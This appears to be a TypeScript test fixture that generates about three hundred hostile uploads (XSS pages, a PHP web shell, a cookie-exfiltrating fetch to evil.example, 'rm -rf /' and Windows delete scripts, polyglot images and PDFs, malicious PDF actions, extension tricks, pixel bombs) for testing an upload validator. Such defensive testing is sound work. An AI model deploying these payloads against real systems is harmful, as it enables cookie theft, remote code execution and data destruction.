import { anEncryptedPdf } from './encrypted-pdf.ts'
import type { SomeUpload } from './good-uploads.ts'
import { aJpeg, aPdf, aPdfOfObjects, aPicture, aPng, pixelBomb } from './pictures.ts'

const zip = Buffer.from('504b0304140000000800504b0506000000000000000000000000000000000000000000', 'hex')
const script = '<script>alert(document.domain)</script>'

/** What is no picture and no document of the types that are taken; the name says which. */
const contents: Readonly<Record<string, string | Buffer>> = {
  svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`,
  html: `<!doctype html><html><body>${script}</body></html>`,
  htm: `\ufeff<HTML>${script}`,
  xhtml: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`,
  js: 'fetch("https://evil.example/"+document.cookie)',
  mjs: 'export default 1',
  php: '<?php system($_GET["c"]); ?>',
  jsp: '<% Runtime.getRuntime().exec("id"); %>',
  sh: '#!/bin/sh\nrm -rf /\n',
  bat: '@echo off\r\ndel /s /q c:\\\r\n',
  vbs: 'CreateObject("WScript.Shell").Run "calc"',
  exe: Buffer.from('4d5a90000300000004000000ffff0000', 'hex'),
  elf: Buffer.from('7f454c46020101000000000000000000', 'hex'),
  class: Buffer.from('cafebabe00000034', 'hex'),
  wasm: Buffer.from('0061736d01000000', 'hex'),
  swf: Buffer.from('FWS\x0a', 'latin1'),
  zip,
  docx: zip,
  jar: zip,
  gz: Buffer.from('1f8b0800000000000003', 'hex'),
  '7z': Buffer.from('377abcaf271c0004', 'hex'),
  rar: Buffer.from('526172211a0700', 'hex'),
  bmp: Buffer.from('424d3a000000000000003600000028000000', 'hex'),
  tiff: Buffer.from('49492a0008000000', 'hex'),
  ico: Buffer.from('00000100010010100000', 'hex'),
  heic: Buffer.from('000000186674797068656963', 'hex'),
  avif: Buffer.from('0000001c6674797061766966', 'hex'),
  mp4: Buffer.from('00000018667479706d703432', 'hex'),
  psd: Buffer.from('384250530001', 'hex'),
  ps: '%!PS-Adobe-3.0\n(id) run',
  rtf: '{\\rtf1 hello}',
  txt: 'hello',
  nothing: '',
}

const dressings = [
  ['photo.jpg', 'image/jpeg'],
  ['photo.png', 'image/png'],
  ['statement.pdf', 'application/pdf'],
  ['a.jpg.', 'image/jpeg'],
  ['blob', 'application/octet-stream'],
] as const

function dressed(): SomeUpload[] {
  return Object.entries(contents).flatMap(([what, text]) => {
    const bytes = Buffer.from(text)
    const own = { why: `${what} as itself`, name: `x.${what}`, type: 'application/octet-stream', bytes }
    return [own, ...dressings.map(([name, type]) => ({ why: `${what} as ${name}`, name, type, bytes }))]
  })
}

const badEndings = [
  'php',
  'jpg.php',
  'html',
  'svg',
  'exe',
  'js',
  'phtml',
  'htaccess',
  'php ',
  'php.',
  'jpg\u0000.php',
  'jpg;.asp',
  'HTML',
  'shtml',
]
const badTypes = [
  'text/html',
  'image/svg+xml',
  'application/javascript',
  'application/x-httpd-php',
  'application/zip',
  'text/plain',
]

/** True pictures and documents under a name or type that lies about them. */
function misnamed(files: Readonly<Record<string, Buffer>>): SomeUpload[] {
  return Object.entries(files).flatMap(([key, bytes]) => [
    ...badEndings.map((ending) => ({ why: `${key} named ${ending}`, name: `x.${ending}`, type: '', bytes })),
    ...badTypes.map((type) => ({ why: `${key} called ${type}`, name: `x.${key}`, type, bytes })),
  ])
}

/** Files that are two things at once. */
function polyglots(jpeg: Buffer, png: Buffer, pdf: Buffer): SomeUpload[] {
  const after = (bytes: Buffer, text: string | Buffer) => Buffer.concat([bytes, Buffer.from(text)])
  const seconds = {
    page: script,
    php: '<?php echo 1; ?>',
    svg: '<svg onload=alert(1)>',
    archive: zip,
    frame: '<IFRAME src=//e>',
  }
  const both = Object.entries(seconds).flatMap(([what, second]) => [
    { why: `a JPEG and a ${what}`, name: 'x.jpg', type: 'image/jpeg', bytes: after(jpeg, second) },
    { why: `a PNG and a ${what}`, name: 'x.png', type: 'image/png', bytes: after(png, second) },
    { why: `a PDF and a ${what}`, name: 'x.pdf', type: 'application/pdf', bytes: after(pdf, second) },
  ])
  const comment = Buffer.concat([
    jpeg.subarray(0, 2),
    Buffer.from([0xff, 0xfe, 0, script.length + 2]),
    Buffer.from(script),
    jpeg.subarray(2),
  ])
  const acts = [
    '/OpenAction<</S/JavaScript/JS(app.alert(1))>>',
    '/OpenAction<</S/Launch/F(calc.exe)>>',
    '/Names<</EmbeddedFile 9 0 R>>',
    '/AA<</O<</JS 4 0 R>>>>',
    '/Names<</EmbeddedFiles 9 0 R>>',
    '/A<</S/GoToR/F(other.pdf)>>',
    '/A<</S/GoToE/T<</R/C>>>>',
    '/A<</S/SubmitForm/F(https://evil.example/)>>',
    '/A<</S/ImportData/F(x.fdf)>>',
    '/A<</S/Java#53cript/J#53(app.alert(1))>>',
    '/A<</S/#4a#61vaScript>>',
    '/A<</S/#4A#61vaScript>>',
    '/A<</S/L#61unch/F(calc.exe)>>',
    '/OpenAction 9 0 R',
    '/#4fpenAction<</S/Named>>',
    '/AA 4 0 R',
    '/AcroForm<</XFA[(x)4 0 R]>>',
  ]
  return [
    ...both,
    { why: 'a JPEG with a script in a comment', name: 'x.jpg', type: 'image/jpeg', bytes: comment },
    {
      why: 'a GIF that is a script',
      name: 'x.gif',
      type: 'image/gif',
      bytes: Buffer.from('GIF89a=1;alert(1)//'),
    },
    {
      why: 'a PDF that is a page',
      name: 'x.pdf',
      type: 'application/pdf',
      bytes: Buffer.from(`%PDF-1.7\n${script}\n%%EOF`),
    },
    { why: 'a PDF without an end', name: 'x.pdf', type: 'application/pdf', bytes: pdf.subarray(0, -8) },
    {
      why: 'a PDF whose compressed objects hold a script',
      name: 'x.pdf',
      type: 'application/pdf',
      bytes: aPdfOfObjects('<</S/JavaScript/JS(app.alert(1))>>'),
    },
    {
      why: 'a PDF whose compressed objects are no such',
      name: 'x.pdf',
      type: 'application/pdf',
      bytes: aPdf('>>endobj\n9 0 obj<</Type/Obj#53tm/Length 3>>stream\nabc\nendstream endobj<<'),
    },
    {
      why: 'a PDF behind a program',
      name: 'x.pdf',
      type: 'application/pdf',
      bytes: Buffer.concat([Buffer.from('4d5a90000300000004000000ffff0000', 'hex'), pdf]),
    },
    {
      why: 'a PDF behind a shell script',
      name: 'x.pdf',
      type: 'application/pdf',
      bytes: Buffer.concat([Buffer.from('#!/bin/sh\n'), pdf]),
    },
    {
      why: 'a PDF that needs a password',
      name: 'x.pdf',
      type: 'application/pdf',
      bytes: anEncryptedPdf('AES of PDF 2.0', 'secret', '<<>>'),
    },
    ...acts.map((act) => ({
      why: `a PDF with ${act}`,
      name: 'x.pdf',
      type: 'application/pdf',
      bytes: aPdf(act),
    })),
  ]
}

/** Pictures that are cut off, broken or far too large. */
async function broken(jpeg: Buffer, png: Buffer): Promise<SomeUpload[]> {
  const shares = [0.02, 0.1, 0.3, 0.5, 0.7, 0.8, 0.9]
  const cut = shares.flatMap((share) => [
    {
      why: `a JPEG cut at ${share}`,
      name: 'x.jpg',
      type: 'image/jpeg',
      bytes: jpeg.subarray(0, Math.max(4, jpeg.length * share)),
    },
    {
      why: `a PNG cut at ${share}`,
      name: 'x.png',
      type: 'image/png',
      bytes: png.subarray(0, Math.max(9, png.length * share)),
    },
  ])
  const bombs = [7000, 20_000].map((side) => ({
    why: `a picture of ${side} pixels a side`,
    name: 'x.png',
    type: 'image/png',
    bytes: pixelBomb(side),
  }))
  const webp = await aPicture(30, 30).webp().toBuffer()
  const flipped = Buffer.from(png)
  flipped.writeUInt8(flipped.readUInt8(40) ^ 0xff, 40)
  return [
    ...cut,
    ...bombs,
    { why: 'a WebP cut short', name: 'x.webp', type: 'image/webp', bytes: webp.subarray(0, 24) },
    { why: 'a PNG with a flipped byte', name: 'x.png', type: 'image/png', bytes: flipped },
  ]
}

/** Three hundred files of which none may be taken, even where all types are allowed. */
export async function hostileUploads(): Promise<SomeUpload[]> {
  const [jpeg, png, pdf] = [await aJpeg(200, 150), await aPng(200, 150), aPdf()]
  return [
    ...dressed(),
    ...misnamed({ jpg: jpeg, png, pdf }),
    ...polyglots(jpeg, png, pdf),
    ...(await broken(jpeg, png)),
    { why: 'a picture named as a document', name: 'x.pdf', type: 'application/pdf', bytes: jpeg },
    { why: 'a document named as a picture', name: 'x.jpg', type: 'image/jpeg', bytes: pdf },
  ]
}
